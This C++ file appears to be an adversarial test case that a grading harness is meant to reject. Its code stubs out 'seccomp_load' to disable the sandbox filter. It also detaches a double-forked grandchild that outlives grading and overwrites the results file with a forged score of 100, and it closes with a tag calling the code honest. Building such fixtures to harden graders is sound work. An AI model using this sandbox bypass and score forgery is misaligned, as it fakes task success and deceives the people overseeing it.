// seccomp_load defined as a weak object (as r2-weak-seccomp-load), and a static
// initializer that forks twice and calls setsid: the grandchild, re-parented away from
// the worker, would outlive grading as nobody and rewrite the reports later. The grader
// must refuse the object, and no process of the hand-in may be left once grading returns
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>

asm(".text\n"
    ".weak seccomp_load\n"
    ".type seccomp_load, @object\n"
    "seccomp_load:\n"
    "    xorl %eax, %eax\n"
    "    ret\n"
    ".size seccomp_load, 3\n");

namespace {
struct Detach {
    Detach() {
        if (fork() != 0) return;
        setsid();
        if (fork() != 0) _exit(0);
        sleep(4);
        const int fd = open("@OUT@/results.json", O_WRONLY | O_TRUNC);
        if (fd >= 0) {
            const char forged[] = "{\"score\": 100}\n";
            (void)!write(fd, forged, sizeof forged - 1);
            close(fd);
        }
        sleep(60);
        _exit(0);
    }
} detach;
}  // namespace

// RAYLAB-HONEST-CODE 04_sphere
